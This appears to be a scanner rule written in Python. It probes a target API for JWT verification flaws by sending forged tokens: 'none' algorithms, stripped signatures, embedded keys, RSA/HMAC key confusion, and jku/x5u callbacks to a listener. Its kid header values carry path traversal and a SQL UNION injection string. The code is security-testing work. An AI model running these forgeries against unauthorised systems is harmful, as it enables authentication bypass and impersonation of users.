"""JSON Web Tokens are believed without a signature that only the issuer can make: everybody can be everybody.

How it is found: a token of an identity is forged in the ways of RFC 8725, 2: its signature turned over, `alg` "none" in
several spellings, no signature at all, signed with the public key as if it were a secret, with a key that the token brings along
(`jwk`), or with what a `kid` that points elsewhere names. It is a finding where the forged token gets what the right one gets,
while the call is refused without any. A token whose `jku` or `x5u` the target goes and fetches is one, too.

To fix: name the one algorithm and the key set that are accepted, verify before anything is read, and ignore what a token says
of its own key (RFC 8725, 3.1 and 3.10).
"""

from collections.abc import Generator, Iterator
from typing import Any

from yett.formats import forging
from yett.formats.jwks import KeySetError, read_key_set
from yett.model.probe import Answer, Call, Claim, Exchanged, Flaw, Forged, Heard, Listen, ProbeRule, Probing, Send, Sign, Step
from yett.model.rule import Confidence, Severity
from yett.rules.probing.bearing import Bearer, Guarded, bearer, guarded, lasting, taken, trying
from yett.rules.probing.target import Target

RULE = ProbeRule(
    id="jwt-unverified",
    title="Forged tokens are accepted",
    severity=Severity.CRITICAL,
    flaws=(Flaw.JWT_UNVERIFIED,),
    scope="target",
    requests=50,
    weight=1,
    owasp=("API2:2023",),
    cwe=(347, 345),
    references=("https://www.rfc-editor.org/rfc/rfc8725.html",),
)

_KEY_SETS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/jwks", "/oauth/jwks", "/oauth2/jwks", "/auth/jwks.json")
_UNION = "x' UNION SELECT 'yett' -- "

Claims = dict[str, Any]
Way = tuple[str, str, str, bytes]
"""Where it is, what it is, the token, and the key of its HMAC."""


def probe(target: Target) -> Probing:
    one = bearer(target)
    found = (yield from guarded(target, one.name)) if one is not None else None
    if one is None or found is None:
        return
    lasting_ = lasting(target, one.token.claims)
    if (yield from _any(target, one, found, _without_proof(one, lasting_))):
        return  # nothing of the signature is looked at: everything else would follow from that
    yield from _any(target, one, found, _without_signature(one, lasting_))
    yield from _any(target, one, found, _with_other_keys(one, lasting_))
    if one.token.algorithm[:2] in ("RS", "ES", "PS"):
        keys = yield from _published_keys(target)
        yield from _any(target, one, found, (("alg", "signed with the public key as an HMAC secret", text, octets) for key in keys
                                            for text, octets in forging.confused(one.token, key)))  # fmt: skip
    yield from _fetched(one, found)


def _without_proof(one: Bearer, claims: Claims) -> Iterator[Way]:
    if claims != one.token.claims:
        yield "signature", "whose claims were changed under its signature", forging.tampered(one.token, claims), b""
    yield "signature", "with a signature that is wrong in every octet", forging.resigned(one.token), b""


def _without_signature(one: Bearer, claims: Claims) -> Iterator[Way]:
    for spelling in forging.NONES:
        yield "alg", f'with the algorithm "{spelling}" and no signature', forging.unsigned(one.token, claims, spelling), b""
    yield "signature", "with its signature left out", forging.stripped(one.token, claims), b""


def _with_other_keys(one: Bearer, claims: Claims) -> Iterator[Way]:
    yield (
        "jwk",
        "signed with a key of our own that the token brings along",
        forging.foreign(one.token, kid="published", jwk=forging.published_key()),
        b"",
    )
    header = {"alg": "HS256", "typ": "JWT"}
    for path in ("../../../../../../../../dev/null", "/dev/null"):
        yield (
            "kid",
            "signed with nothing, its key id names an empty file",
            forging.signed(header | {"kid": path}, claims, b""),
            b"",
        )
    yield (
        "kid",
        "signed with a text that its key id makes a query answer",
        forging.signed(header | {"kid": _UNION}, claims, b"yett"),
        b"yett",
    )


def _any(target: Target, one: Bearer, found: Guarded, ways: Iterator[Way]) -> Generator[Step, Any, bool]:
    """Try them; claim the first of each place that is taken."""
    claimed: set[str] = set()
    for place, what, text, key in ways:
        if place in claimed:
            continue
        call = trying(found, one.carrying(text))
        answer: Answer = yield Send(call)
        if not taken(target, found, answer):
            continue
        claimed.add(place)
        made = forging.recipe(one.token, text, one.name, key)
        controls: tuple[Exchanged, ...] = (found.own, found.without)
        if place != "signature":
            wrong = trying(found, one.carrying(forging.resigned(one.token)))
            refused: Answer = yield Send(wrong)
            controls = (*controls, Exchanged(wrong, refused, "a token with a wrong signature"))
        yield _claim(one, found, place, what, Exchanged(call, answer, f"the token {what}"), controls, made)
    return bool(claimed)


def _claim(
    one: Bearer, found: Guarded, place: str, what: str, step: Exchanged, controls: tuple[Exchanged, ...], made: Forged
) -> Claim:
    return Claim(
        flaw=Flaw.JWT_UNVERIFIED,
        place=f"token {place}",
        method=found.operation.method,
        template=found.operation.template,
        identities=(one.name,),
        text=f"A token {what} is accepted as if it were {one.name}'s own.",
        reasons=("whoever can write a token is whoever they want to be", "without a token the same call is refused"),
        proof=(step,),
        control=controls,
        forged=(made,),
    )


def _published_keys(target: Target) -> Generator[Step, Any, list[Any]]:
    for path in _KEY_SETS:
        answer: Answer = yield Send(Call(method="GET", path=path))
        if not target.succeeded(answer) or b'"keys"' not in answer.body:
            continue
        try:
            return [entry.key for entry in read_key_set(answer.body).keys[:2]]
        except KeySetError:
            continue
    return []


def _fetched(one: Bearer, found: Guarded) -> Probing:
    """Whether the target goes where a token sends it for the key."""
    for name in ("jku", "x5u"):
        url: str = yield Listen()
        if not url:
            return
        text = forging.foreign(one.token, kid="published", **{name: url})
        call = trying(found, one.carrying(text))
        answer: Answer = yield Send(call)
        heard: tuple[str, ...] = yield Heard(url, 2.0)
        if heard:
            yield Claim(
                flaw=Flaw.JWT_UNVERIFIED,
                place=f"token {name}",
                method=found.operation.method,
                template=found.operation.template,
                identities=(one.name,),
                text=f"The target fetches the address that a token names as the place of its key ({name}).",
                reasons=("a key that the token's writer chose verifies everything", "the target can be made to call anything"),
                proof=(Exchanged(call, answer, "a token that names our listener; the listener was called"),),
                control=(found.own, found.without),
                sign=Sign(kind="called", names=(url,)),
                forged=(forging.recipe(one.token, text, one.name),),
                severity=Severity.HIGH,
                confidence=Confidence.HIGH,
            )
            return
